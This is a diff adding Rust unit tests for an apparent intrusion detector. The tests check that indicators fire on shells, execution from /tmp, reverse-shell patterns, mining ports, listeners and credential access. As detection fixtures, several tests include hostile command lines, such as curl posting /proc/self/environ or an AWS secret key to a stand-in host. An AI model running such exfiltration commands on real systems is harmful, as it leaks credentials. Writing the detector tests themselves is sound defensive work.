@@ -1,0 +1,160 @@
+use super::*;
+use crate::detect::testing::{endpoint, left_running, process};
+use crate::sources::procfs::Proto;
+
+fn feed(t: &mut Tracker, f: &Familiar, obs: &Observation) -> Vec<Indicator> {
+    t.feed(obs, f, "/tmp/")
+}
+
+#[test]
+fn a_shell_fires_once_per_invocation() {
+    let (mut t, f) = (Tracker::default(), Familiar::default());
+    assert_eq!(
+        feed(&mut t, &f, &process(10, "/usr/bin/dash", "sh -c id")),
+        vec![Indicator::ShellSpawned]
+    );
+    assert!(feed(&mut t, &f, &process(11, "/usr/bin/bash", "bash -i")).is_empty());
+    assert_eq!(t.get(Indicator::ShellSpawned).map(|h| h.count), Some(2));
+}
+
+#[test]
+fn familiar_programs_do_not_fire() {
+    let mut f = Familiar::default();
+    f.learn(&[
+        process(1, "/usr/bin/gzip", "gzip -6"),
+        endpoint("10.0.0.2:443"),
+    ]);
+    f.add_exe("sh");
+    let mut t = Tracker::default();
+    assert!(feed(&mut t, &f, &process(10, "/usr/bin/gzip", "gzip -9")).is_empty());
+    assert!(feed(&mut t, &f, &process(11, "/bin/sh", "sh -c gzip")).is_empty());
+    assert!(feed(&mut t, &f, &endpoint("10.0.0.2:443")).is_empty());
+    assert_eq!(
+        feed(&mut t, &f, &process(12, "/usr/bin/id", "id")),
+        vec![Indicator::UnknownBinary]
+    );
+}
+
+#[test]
+fn exec_from_tmp_binary_or_script() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    assert_eq!(
+        feed(&mut t, &f, &process(10, "/tmp/x", "/tmp/x --run")),
+        vec![Indicator::ExecFromTmp]
+    );
+    let mut t = Tracker::default();
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(10, "/usr/bin/dash", "/bin/sh /tmp/drop.sh"),
+    );
+    assert_eq!(fired, vec![Indicator::ExecFromTmp, Indicator::ShellSpawned]);
+}
+
+#[test]
+fn a_shell_and_a_new_connection_is_a_reverse_shell_in_either_order() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    feed(&mut t, &f, &process(10, "/bin/bash", "bash -i"));
+    let fired = feed(&mut t, &f, &endpoint("10.0.0.9:4242"));
+    assert_eq!(
+        fired,
+        vec![
+            Indicator::UnknownDestination,
+            Indicator::ShellWithConnection
+        ]
+    );
+    let hit = t.get(Indicator::ShellWithConnection).expect("fired");
+    assert_eq!(hit.evidence.len(), 2);
+
+    let mut t = Tracker::default();
+    feed(&mut t, &f, &endpoint("10.0.0.9:4242"));
+    let fired = feed(&mut t, &f, &process(10, "/bin/sh", "/bin/sh -i"));
+    assert!(fired.contains(&Indicator::ShellWithConnection));
+}
+
+#[test]
+fn network_indicators() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fired = feed(&mut t, &f, &endpoint("10.0.0.9:3333"));
+    assert_eq!(
+        fired,
+        vec![Indicator::MiningPort, Indicator::UnknownDestination]
+    );
+    let listener = Observation::Endpoint {
+        proto: Proto::Tcp,
+        addr: "0.0.0.0:4444".parse().expect("addr"),
+        listen: true,
+    };
+    assert_eq!(feed(&mut t, &f, &listener), vec![Indicator::ListenerOpened]);
+}
+
+#[test]
+fn left_running_and_credentials() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fired = feed(&mut t, &f, &left_running(20, "/usr/bin/sleep", "sleep 300"));
+    assert_eq!(fired, vec![Indicator::LeftRunning]);
+    let fired = feed(
+        &mut t,
+        &f,
+        &process(
+            21,
+            "/usr/bin/curl",
+            "curl --data-binary @/proc/self/environ http://x/",
+        ),
+    );
+    assert!(fired.contains(&Indicator::CredentialAccess));
+}
+
+#[test]
+fn evidence_is_redacted() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    feed(
+        &mut t,
+        &f,
+        &process(
+            21,
+            "/usr/bin/curl",
+            "curl -d AWS_SECRET_ACCESS_KEY=abc123 http://x/",
+        ),
+    );
+    let hit = t.get(Indicator::CredentialAccess).expect("fired");
+    match &hit.evidence[0] {
+        Observation::Process { cmdline, .. } => {
+            assert_eq!(
+                cmdline,
+                "curl -d AWS_SECRET_ACCESS_KEY=[REDACTED] http://x/"
+            )
+        }
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn weights_and_features() {
+    assert!(Indicator::UnknownBinary.weight(true) > Indicator::UnknownBinary.weight(false));
+    assert!(Indicator::UnknownDestination.weight(true) < 0.5);
+    assert_eq!(Indicator::ShellWithConnection.class(), Class::ReverseShell);
+    assert_eq!(Indicator::LeftRunning.feature(), idx::LEFT_RUNNING);
+}
+
+#[test]
+fn a_runtime_forking_itself_is_not_an_unknown_binary() {
+    let f = Familiar::default();
+    let mut t = Tracker::default();
+    let fork = process(
+        13,
+        "/var/lang/bin/python3.12",
+        "python -m awslambdaric handler.handler",
+    );
+    assert!(feed(&mut t, &f, &fork).is_empty());
+    let mut exec = process(13, "/usr/bin/id", "id");
+    if let Observation::Process { exec: e, .. } = &mut exec {
+        *e = true;
+    }
+    assert_eq!(feed(&mut t, &f, &exec), vec![Indicator::UnknownBinary]);
+}
